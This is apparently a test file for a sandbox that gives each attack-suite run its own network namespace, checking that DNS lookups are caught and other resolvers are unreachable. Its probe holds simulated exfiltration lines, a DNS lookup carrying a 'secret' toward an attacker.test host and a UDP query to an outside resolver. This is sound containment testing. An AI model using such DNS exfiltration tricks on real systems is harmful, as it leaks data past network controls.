/**
 * The attack suite's own network for each run (dns-catcher.ts): a command entered there has a
 * network namespace of its own with loopback alone, asks the catcher whatever it resolves, reaches
 * the loopback servers of this process as before, and reaches no other resolver.
 */
import { execFile } from 'node:child_process';
import { readlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dnsCatcherMissing, loopbackListeners, startDnsCatcher, type DnsCatcher } from './dns-catcher.js';

const missing = dnsCatcherMissing();
if (missing) console.warn(`the attack suite's network namespace is not tested: ${missing}`);

describe.skipIf(missing !== undefined)('a run\'s network namespace in the attack suite', () => {
  let catcher: DnsCatcher;
  let server: Server;
  let requests: string[];

  beforeAll(async () => {
    catcher = await startDnsCatcher('127.0.0.57');
    requests = [];
    server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.end('served from outside the namespace\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  });

  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    await catcher.close();
  });

  it('lists the loopback ports this process listens on', () => {
    expect(loopbackListeners()).toContainEqual({ address: '127.0.0.2', port: (server.address() as AddressInfo).port });
  });

  it('has loopback alone, asks the catcher, reaches this process\'s servers, and no other resolver', async () => {
    const port = (server.address() as AddressInfo).port;
    const probe = [
      'echo "namespace: $(readlink /proc/self/ns/net)"',
      'echo "links: $(ip -o link | wc -l)"',
      'getent hosts secret-in-a-name.attacker.test >/dev/null; echo "lookup: $?"',
      `echo "server: $(curl -sS -m 5 http://127.0.0.2:${port}/inside)"`,
      // A query sent to a resolver of the attacker's choosing, not the one resolv.conf names.
      `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('192.0.2.53', 53))" 2>&1 | tail -1 | sed 's/^/other-resolver: /'`,
    ].join('\n');
    const namespace = await catcher.enter(['sh', '-c', probe]);
    try {
      // Asynchronously: the carriers and the catcher answer from this process's event loop.
      const output = await new Promise<string>((resolve) => {
        execFile(namespace.command[0]!, namespace.command.slice(1), { encoding: 'utf8', timeout: 20_000 }, (_error, stdout, stderr) => resolve(stdout + stderr));
      });
      expect(output).toContain(`namespace: `);
      expect(output).not.toContain(`namespace: ${readlinkSync('/proc/self/ns/net')}`);
      expect(output).toContain('links: 1');
      expect(output).toMatch(/lookup: [1-9]/);
      expect(catcher.names).toContain('secret-in-a-name.attacker.test');
      expect(output).toContain('server: served from outside the namespace');
      expect(requests).toContain('/inside');
      expect(output).toMatch(/other-resolver: .*(unreachable|Network)/i);
    } finally {
      await namespace.close();
    }
  });
});
